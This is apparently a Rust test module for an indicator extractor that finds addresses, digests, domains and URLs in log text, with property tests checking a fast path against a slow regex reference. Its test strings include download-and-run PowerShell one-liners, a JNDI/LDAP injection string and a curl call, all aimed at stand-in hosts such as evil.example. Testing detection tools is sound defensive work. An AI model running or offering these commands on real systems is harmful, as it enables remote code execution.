//! What prose tells of, and that the quick way finds what the slow one does.

use std::sync::LazyLock;

use proptest::prelude::*;
use regex::Regex;

use super::*;

fn told(text: &str) -> Vec<String> {
    let mut found = Observables::default();
    find(text, &mut found);
    list(&found)
}

/// By kind: addresses, digests, domains, URLs.
fn list(found: &Observables) -> Vec<String> {
    let of = |kind| found.of(kind).map(str::to_owned).collect::<Vec<_>>();
    ObservableKind::ALL.into_iter().flat_map(of).collect()
}

const MD5: &str = "44d88612fea8a8f36de82e1278abb02f";

#[test]
fn messages_tell_of_addresses() {
    for (text, addresses) in [
        ("Failed password for root from 203.0.113.7 port 22 ssh2", &["203.0.113.7"][..]),
        ("rhost=203.0.113.7, 10.0.0.5:51514->10.0.0.6:443.", &["203.0.113.7", "10.0.0.5", "10.0.0.6"]),
        ("Deny tcp src outside:10.1.2.3/443 dst inside/10.1.2.4(80)", &["10.1.2.3", "10.1.2.4"]),
        ("scan of 10.0.0.1-10.0.0.9, then 10.0.1.0/24", &["10.0.0.1", "10.0.0.9", "10.0.1.0"]),
        ("blocked 198[.]51[.]100[.]7 and 10.0.0(.)9", &["198.51.100.7", "10.0.0.9"]),
        ("q=http%3A%2F%2F198.51.100.7%2Fa", &["198.51.100.7"]),
        ("from 2001:DB8::7: refused", &["2001:db8::7"]),
        ("[2001:db8::1]:443 fe80::1%eth0 via ip6:fd00::2/64.", &["2001:db8::1", "fe80::1", "fd00::2"]),
        ("::ffff:10.1.2.3 asked", &["10.1.2.3"]),
        ("2001:db8:1:2:3:4:5:6-2001:db8::9", &["2001:db8:1:2:3:4:5:6", "2001:db8::9"]),
    ] {
        assert_eq!(told(text), addresses, "{text}");
    }
}

#[test]
fn versions_clocks_and_names_with_colons_are_no_addresses() {
    for text in [
        "version 1.2.3.4, FileVersion: 1.2.3.4, v1.2.3.4, {\"version\":\"1.2.3.4\"}",
        "Chrome/120.0.0.0 Safari/1.2.3.4 Version/17.4.1.2",
        "openssl-1.0.2.5-4.el7 and 1.2.3.4.5 and 1.2.3 and 300.1.2.3 and 010.1.2.3",
        "at 12:30:01 and 12:30:01.123 on aa:bb:cc:dd:ee:ff, 50:06:01:60:3b:20:11:22",
        "std::fs::a, a::b, dead::beef, ::, ::1, 127.0.0.1, 0.0.0.0",
        "10.0.0.1x 2001:db8::1g x2001:db8::1",
    ] {
        assert_eq!(told(text), [""; 0], "{text}");
    }
}

#[test]
fn digests_are_runs_of_the_right_length() {
    let sha1 = "DA39A3EE5E6B4B0D3255BFEF95601890AFD80709";
    let text = format!("MD5={MD5},SHA1={sha1} /tmp/x_{MD5}.bin");
    assert_eq!(told(&text), [MD5.to_owned(), sha1.to_lowercase()]);
    for length in [56, 64, 96, 128] {
        let digest = "0a".repeat(length / 2);
        assert_eq!(told(&format!("[{digest}]")), [digest]);
    }
    for text in [
        "{6F9619FF-8B86-D011-B42D-00CF4FC964FF}".to_owned(),
        format!("00-{MD5}-00f067aa0ba902b7-01"),
        format!("{MD5}0 and {}", &MD5[1..]),
        "0".repeat(64),
    ] {
        assert_eq!(told(&text), [""; 0], "{text}");
    }
}

#[test]
fn urls_end_where_they_end_and_tell_their_host() {
    for (text, url, host) in [
        ("powershell -c iwr http://evil.example/x.ps1 -o a", "http://evil.example/x.ps1", "evil.example"),
        (
            "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/x.ps1')",
            "http://evil.example/x.ps1",
            "evil.example",
        ),
        ("see (https://evil.example/a_(b)).", "https://evil.example/a_(b)", "evil.example"),
        ("${jndi:ldap://evil.example/a}", "ldap://evil.example/a", "evil.example"),
        ("\u{201c}https://evil.example/x?y=1\u{201d}", "https://evil.example/x?y=1", "evil.example"),
        ("hxxps://evil[.]example/drop", "https://evil.example/drop", "evil.example"),
        ("hXXp[:]//evil(.)example[:]8080/", "http://evil.example:8080/", "evil.example"),
        ("https[://]evil.example/A", "https://evil.example/a", "evil.example"),
        ("<a href='https://u@Evil.Example:8443/'>", "https://u@evil.example:8443/", "evil.example"),
    ] {
        assert_eq!(told(text), [host, url], "{text}");
    }
    assert_eq!(told("http://a.example/x,http://b.example/y").len(), 4);
    assert_eq!(told("ws://[2001:db8::1]:80/"), ["2001:db8::1", "ws://[2001:db8::1]:80/"]);
    for text in ["c://x", "file:///etc/passwd", "http://", "://x", "see http:// there", "http://[ ]"] {
        assert_eq!(told(text), [""; 0], "{text}");
    }
}

#[test]
fn domains_are_told_from_files_paths_and_code() {
    for (text, domain) in [
        ("query[A] evil.Example from lan", None),
        ("query[A] evil.example. from lan", Some("evil.example")),
        ("connect from mail.evil.co.uk[unknown]", Some("mail.evil.co.uk")),
        ("to=<nurse@trust.nhs.uk>, first.last@trust.nhs.uk", Some("trust.nhs.uk")),
        ("helo=EVIL.COM", Some("evil.com")),
        ("\\\\dc01.trust.local\\sysvol", Some("dc01.trust.local")),
        ("curl //cdn.evil.sh/x", Some("cdn.evil.sh")),
        ("www.evil.zip, www.evil.zip", Some("www.evil.zip")),
        ("u=https%3A%2F%2Fevil.example%2Flogin", Some("evil.example")),
        ("evil[.]zip", Some("evil.zip")),
        ("bank.co.id", Some("bank.co.id")),
        ("mail.bank.pl", Some("mail.bank.pl")),
        ("foo.ck", Some("foo.ck")),
        ("xn--e1afmkfd.xn--p1ai", Some("xn--e1afmkfd.xn--p1ai")),
        ("\u{43f}\u{440}.\u{440}\u{444}", Some("\u{43f}\u{440}.\u{440}\u{444}")),
        ("mail.evil.example(203.0.113.7)", Some("mail.evil.example")),
        ("_ldap._tcp.dc.trust.local", Some("_ldap._tcp.dc.trust.local")),
    ] {
        let domains: Vec<String> = told(text).into_iter().filter(|told| !told.starts_with("203")).collect();
        assert_eq!(domains, Vec::from_iter(domain), "{text}");
    }
}

#[test]
fn what_only_looks_like_a_domain_is_none() {
    for text in [
        "invoice.pdf.exe ssh.service cmd.exe libc.so libc.so.6 setup.sh main.rs:42:1 a.py readme.md",
        "archive.zip id_rsa.pub rc.local settings.local Wscript.Shell",
        "/usr/share/x.com C:\\Windows\\y.com C:\\\\Windows\\\\y.com ./a.com",
        "System.Net.WebClient System.IO System.Net the end.In the beginning",
        "$env.com $_.name obj.id process.name user.name=x app.info(x) log.info(\"x\") obj.net()",
        "{\"host.com\":1}",
        "a..com . ... .com com e.g. i.e. 3.14 1.2.3 x.y",
    ] {
        assert_eq!(told(text), [""; 0], "{text}");
    }
}

#[test]
fn only_the_beginning_of_a_long_text_is_looked_through() {
    let text = format!("from 203.0.113.7 {} 203.0.113.8", "x ".repeat(LOOKED_THROUGH / 2));
    assert_eq!(told(&text), ["203.0.113.7"]);
    // The word at the end of what is looked through may be only the beginning of another.
    let cut = format!("{} 10.0.0.12", "x".repeat(LOOKED_THROUGH - 9));
    assert_eq!(told(&cut), [""; 0]);
    assert_eq!(told(&"\u{e9}".repeat(LOOKED_THROUGH)), [""; 0]);
}

/// What is found by trying all things at all places.
fn slowly(text: &str) -> Vec<String> {
    static EXPRESSIONS: LazyLock<[Regex; 4]> = LazyLock::new(|| {
        [
            r"^([A-Za-z][A-Za-z0-9+]+)(?:://|\[:\]//|\[://\])([\p{Alphabetic}\p{N}\[].*)",
            r"^[0-9A-Fa-f]*:[0-9A-Fa-f:.]*",
            r"^(?:[A-Za-z0-9_.\-\x{80}-\x{10ffff}]|\[\.\]|\(\.\))+",
            "[0-9A-Fa-f]+",
        ]
        .map(|expression| Regex::new(expression).unwrap())
    });
    let [url, address, name, digits] = &*EXPRESSIONS;
    let text = beginning(text);
    let mut found = Observables::default();
    let mut at = 0;
    while let Some(first) = text[at..].chars().next() {
        let (before, rest) = text.split_at(at);
        if let Some(parts) = url.captures(rest)
            && let Some(body) = url::body_of(&parts[2], before.ends_with('\''))
        {
            found.read(ObservableKind::Url, &url::meaning(&parts[1], body));
            at += parts.get(2).unwrap().start() + body.len();
        } else if let Some(digits) = address.find(rest).map(|found| found.as_str())
            && let Some(address) = ipv6(digits, before, &rest[digits.len()..])
        {
            found.read(ObservableKind::Address, address);
            at += address.len();
        } else if let Some(word) =
            name.find(rest).map(|found| found.as_str()).filter(|word| word.contains('.'))
        {
            name::read(word, before, &rest[word.len()..], &mut found);
            at += word.len();
        } else {
            at += first.len_utf8();
        }
    }
    for run in digits.find_iter(text) {
        digest(text, run.start(), run.end(), &mut found);
    }
    list(&found)
}

fn prose() -> impl Strategy<Value = String> {
    let pieces = [
        "203.0.113.7",
        "1.2.3.4",
        "evil",
        "evil.example",
        "a.zip",
        "www.",
        "trust.local",
        "com",
        "http",
        "hxxps",
        "://",
        "[:]//",
        "[://]",
        "[.]",
        "(.)",
        "[:]",
        "fe80::1",
        "2001:db8::7",
        "::ffff:10.1.2.3",
        "ab:cd",
        "12:30:01",
        "version",
        "std::",
        MD5,
        "0a",
        "%2F",
        "\\",
        "/",
        "//",
        ".",
        ".",
        ":",
        ":",
        "[",
        "]",
        "(",
        ")",
        "@",
        "$",
        "=",
        "\"",
        "'",
        ",",
        " ",
        " ",
        "-",
        "_",
        "+",
        "\u{e9}",
        "\u{201d}",
        "A",
        "f",
        "7",
    ];
    prop::collection::vec(prop::sample::select(pieces.to_vec()), 0..14).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn the_quick_way_finds_what_the_slow_one_does(text in prose()) {
        prop_assert_eq!(told(&text), slowly(&text), "{}", text);
    }

    #[test]
    fn runs_of_digits_are_found_wherever_they_stand(
        parts in prop::collection::vec(("[0-9a-f]{0,70}", "[-x ]{1,3}"), 0..8),
    ) {
        let text: String = parts.into_iter().flat_map(|(digits, other)| [digits, other]).collect();
        prop_assert_eq!(told(&text), slowly(&text), "{}", text);
    }
}
